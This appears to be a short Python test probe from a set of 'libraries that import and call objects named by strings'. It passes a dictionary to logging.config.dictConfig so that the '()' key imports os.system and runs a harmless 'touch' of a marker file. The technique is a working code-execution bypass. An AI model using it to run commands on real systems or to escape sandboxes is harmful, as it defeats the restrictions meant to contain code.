# family: libraries that import and call objects named by strings
# goal: let logging.config.dictConfig import os.system and call it with our command
import logging.config

config = {"version": 1, "handlers": {"h": {"()": "os.system", "command": "touch __MARKER_PATH__"}}}
logging.config.dictConfig(config)
